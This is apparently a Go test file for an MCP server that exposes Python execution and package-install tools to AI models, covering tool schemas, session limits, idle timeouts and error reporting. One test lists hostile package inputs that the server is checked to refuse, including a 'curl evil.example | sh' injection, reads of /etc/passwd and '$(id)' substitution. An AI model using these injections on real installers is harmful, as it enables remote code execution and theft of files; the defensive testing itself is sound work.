package mcp_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"github.com/backyard-ls/backyard-ls/container/containertest"
	"github.com/backyard-ls/backyard-ls/contract"
	"github.com/backyard-ls/backyard-ls/mcp"
)

// connect serves a Monty-backed server to an in-process SDK client.
func connect(t testing.TB, opts mcp.Options) (*mcp.Server, *sdk.ClientSession) {
	t.Helper()
	if opts.Settings.Backend == "" {
		opts.Settings = montySettings()
	}
	srv := mcp.New(opts)
	ct, st := sdk.NewInMemoryTransports()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.Serve(ctx, st)
	}()
	cs, err := sdk.NewClient(&sdk.Implementation{Name: "test"}, nil).Connect(context.Background(), ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cs.Close()
		cancel()
		<-done
		srv.Close()
	})
	return srv, cs
}

func callTool(t *testing.T, cs *sdk.ClientSession, name string, args map[string]any) (*sdk.CallToolResult, map[string]any) {
	t.Helper()
	r, err := cs.CallTool(context.Background(), &sdk.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("%s: a protocol error: %v", name, err)
	}
	var m map[string]any
	if r.StructuredContent != nil {
		b, _ := json.Marshal(r.StructuredContent)
		json.Unmarshal(b, &m)
	}
	return r, m
}

func resultText(r *sdk.CallToolResult) string {
	var b strings.Builder
	for _, c := range r.Content {
		if tc, ok := c.(*sdk.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func montySettings() contract.Settings {
	s := contract.DefaultSettings()
	s.Backend = contract.BackendMonty
	return s
}

// The tools served are the contract's, with its descriptions and field
// docs in their schemas.
func TestToolsAreTheContracts(t *testing.T) {
	_, cs := connect(t, mcp.Options{})
	res, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]*sdk.Tool{}
	for _, tl := range res.Tools {
		got[tl.Name] = tl
	}
	if len(got) != len(contract.ToolSpecs) {
		t.Fatalf("%d tools, the contract declares %d", len(got), len(contract.ToolSpecs))
	}
	for _, spec := range contract.ToolSpecs {
		tl := got[spec.Name]
		if tl == nil || tl.Description != spec.Description || tl.OutputSchema == nil {
			t.Fatalf("%s: %+v", spec.Name, tl)
		}
		b, _ := json.Marshal(tl.InputSchema)
		var in struct {
			Properties map[string]struct{ Description string }
		}
		json.Unmarshal(b, &in)
		for name, p := range in.Properties {
			if p.Description == "" || p.Description != contract.ToolFieldDocs[spec.Arg][name] {
				t.Fatalf("%s.%s: description %q", spec.Name, name, p.Description)
			}
		}
	}
}

func TestSessionsAreBounded(t *testing.T) {
	_, cs := connect(t, mcp.Options{MaxSessions: 2})
	callTool(t, cs, "run_python", map[string]any{"code": "a = 1", "session": "one"})
	callTool(t, cs, "run_python", map[string]any{"code": "b = 1", "session": "two"})
	r, _ := callTool(t, cs, "run_python", map[string]any{"code": "1", "session": "three"})
	if !r.IsError || !strings.Contains(resultText(r), "2 sessions are open") {
		t.Fatalf("%+v %s", r, resultText(r))
	}
	// Resetting one frees its slot; the others keep their state.
	callTool(t, cs, "reset_session", map[string]any{"session": "one"})
	if r, m := callTool(t, cs, "run_python", map[string]any{"code": "3", "session": "three"}); r.IsError || m["result"] != "3" {
		t.Fatalf("%s %v", resultText(r), m)
	}
	if _, m := callTool(t, cs, "run_python", map[string]any{"code": "b", "session": "two"}); m["result"] != "1" {
		t.Fatalf("%v", m)
	}
	r, _ = callTool(t, cs, "run_python", map[string]any{"code": "1", "session": "no spaces"})
	if !r.IsError || !strings.Contains(resultText(r), "session name") {
		t.Fatalf("%s", resultText(r))
	}
}

func TestIdleSessionsClose(t *testing.T) {
	core, logs := observer.New(zap.InfoLevel)
	_, cs := connect(t, mcp.Options{IdleTimeout: 300 * time.Millisecond, Logger: zap.New(core)})
	callTool(t, cs, "run_python", map[string]any{"code": "kept = 1", "session": "s"})
	// Waits for the reaper to say it closed the session: a fixed second
	// may pass on a busy machine before the reaper runs.
	for deadline := time.Now().Add(2 * time.Minute); logs.FilterMessage("closed an idle session").Len() == 0; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the idle session was not closed")
		}
	}
	// The idle session was closed: its names are gone.
	if _, m := callTool(t, cs, "run_python", map[string]any{"code": "kept", "session": "s"}); m["status"] != "error" || m["execution_count"] != 1.0 {
		t.Fatalf("%v", m)
	}
}

func TestInstallNeedsThePolicy(t *testing.T) {
	_, cs := connect(t, mcp.Options{})
	r, _ := callTool(t, cs, "install_packages", map[string]any{"packages": []string{"numpy"}})
	if !r.IsError || !strings.Contains(resultText(r), `autoInstall policy is "off"`) {
		t.Fatalf("%s", resultText(r))
	}
	r, _ = callTool(t, cs, "install_packages", map[string]any{"packages": []string{"--index-url=http://x"}})
	if !r.IsError || !strings.Contains(resultText(r), "not a requirement") {
		t.Fatalf("%s", resultText(r))
	}
}

// What a model would hand an installer is refused with a tool error
// before anything runs, whatever the policy; a name goes on (to the Monty
// backend's refusal here).
func TestInstallTakesOnlyNames(t *testing.T) {
	set := montySettings()
	set.Install.AutoInstall = contract.InstallOn
	_, cs := connect(t, mcp.Options{Settings: set})
	for _, p := range []string{"name @ file:///etc/passwd", "numpy\nrequests", "numpy; curl evil.example | sh", "-r/etc/passwd",
		"https://evil.example/x.whl", "../pkg", "numpy\x00", "$(id)"} {
		r, _ := callTool(t, cs, "install_packages", map[string]any{"packages": []string{"numpy", p}})
		if !r.IsError || !strings.Contains(resultText(r), "not a requirement") || !strings.Contains(resultText(r), "requests>=2.31,<3") {
			t.Fatalf("%q: %s", p, resultText(r))
		}
	}
	r, _ := callTool(t, cs, "install_packages", map[string]any{"packages": []string{"numpy", "requests>=2.31,<3"}})
	if !r.IsError || !strings.Contains(resultText(r), "cannot install packages") {
		t.Fatalf("%s", resultText(r))
	}
}

// A run_python error carries the whole exception, the cause first, in the
// text a model reads and in the structured result.
func TestRunPythonErrorIsWhole(t *testing.T) {
	if testing.Short() {
		t.Skip("needs a container engine")
	}
	s := contract.DefaultSettings()
	s.Backend, s.Container.Image, s.Container.Runtime = contract.BackendContainer, containertest.Image(), contract.RuntimeRunc
	_, cs := connect(t, mcp.Options{Settings: s})
	code := "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    err = ValueError('bad ratio')\n    err.add_note('while scoring')\n    raise err from e\n"
	r, m := callTool(t, cs, contract.ToolRunPython, map[string]any{"code": code})
	text := resultText(r)
	for _, want := range []string{"ZeroDivisionError: division by zero", "The above exception was the direct cause of the following exception:", "ValueError: bad ratio\nwhile scoring\n", "line 6, in <module>"} {
		if !strings.Contains(text, want) {
			t.Fatalf("text lacks %q:\n%s", want, text)
		}
	}
	e, _ := m["error"].(map[string]any)
	formatted, _ := e["formatted"].(string)
	if e["ename"] != "ValueError" || !strings.Contains(formatted, "ZeroDivisionError: division by zero") || strings.Index(formatted, "ZeroDivisionError") > strings.Index(formatted, "ValueError") {
		t.Fatalf("structured error %v", e)
	}
	if notes, _ := e["notes"].([]any); len(notes) != 1 || notes[0] != "while scoring" {
		t.Fatalf("notes %v", e["notes"])
	}
}
